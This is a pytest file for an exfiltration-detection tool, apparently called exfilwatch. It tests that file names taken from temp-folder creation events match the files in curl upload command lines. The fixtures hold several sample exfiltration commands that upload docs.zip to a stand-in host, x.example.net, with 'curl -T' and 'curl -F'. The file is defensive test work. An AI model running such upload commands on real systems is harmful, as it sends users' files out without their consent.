"""An upload's file and the event of its creation have the same name, however each writes the path."""

import pytest

from exfilwatch.commands.fields import fields

MADE = {
    "C:\\Users\\eva\\AppData\\Local\\Temp\\Docs.ZIP": "docs.zip",
    "C:\\Users\\Public\\docs.zip": "docs.zip",
    "\\\\?\\C:\\ProgramData\\x\\docs.zip": "docs.zip",
    "/tmp/docs.zip": "docs.zip",
    "/private/var/folders/aa/bb/T/docs.zip": "docs.zip",
    "/dev/shm/.x/docs.zip": "docs.zip",
    "C:\\Users\\eva\\Downloads\\docs.zip": None,
    "/home/eva/docs.zip": None,
    "/srv/template/docs.zip": None,
}
SENT = {
    "the same path": ("curl.exe -T C:\\Windows\\Temp\\Docs.zip https://x.example.net/", "C:\\"),
    "a short folder name": ("curl.exe -T C:\\Users\\EVA~1\\AppData\\Local\\Temp\\docs.zip https://x.example.net/", ""),
    "a variable": ("cmd /c curl -T %TEMP%\\docs.zip https://x.example.net/", "C:\\Users\\eva\\"),
    "another system's path": ("curl -F file=@/tmp/docs.zip https://x.example.net/", "/home/eva"),
    "relative to such a folder": ("curl -T docs.zip https://x.example.net/", "C:\\Users\\Public"),
    "relative to an unknown folder": ("curl -T docs.zip https://x.example.net/", ""),
}
NOT_SENT = {
    "relative to another folder": ("curl -T docs.zip https://x.example.net/", "C:\\Users\\eva\\work"),
    "another folder": ("curl -T C:\\build\\docs.zip https://x.example.net/", "C:\\Windows\\Temp"),
    "many files": ("cmd /c curl -T C:\\Windows\\Temp\\*.zip https://x.example.net/", "C:\\"),
    "a home": ("curl -T ~/docs.zip https://x.example.net/", ""),
}


@pytest.mark.parametrize("path", MADE)
def test_a_file_that_is_made_where_anybody_may_write_has_a_name(path):
    assert fields({"TargetFilename": path}.get)["file.name"] == MADE[path]


@pytest.mark.parametrize("name", SENT)
def test_a_file_that_is_sent_from_there_has_the_same_name(name):
    line, folder = SENT[name]
    assert fields({"CommandLine": line, "CurrentDirectory": folder}.get)["transfer.file"] == "docs.zip"


@pytest.mark.parametrize("name", NOT_SENT)
def test_a_file_from_elsewhere_has_none(name):
    line, folder = NOT_SENT[name]
    assert fields({"CommandLine": line, "CurrentDirectory": folder}.get)["transfer.file"] is None
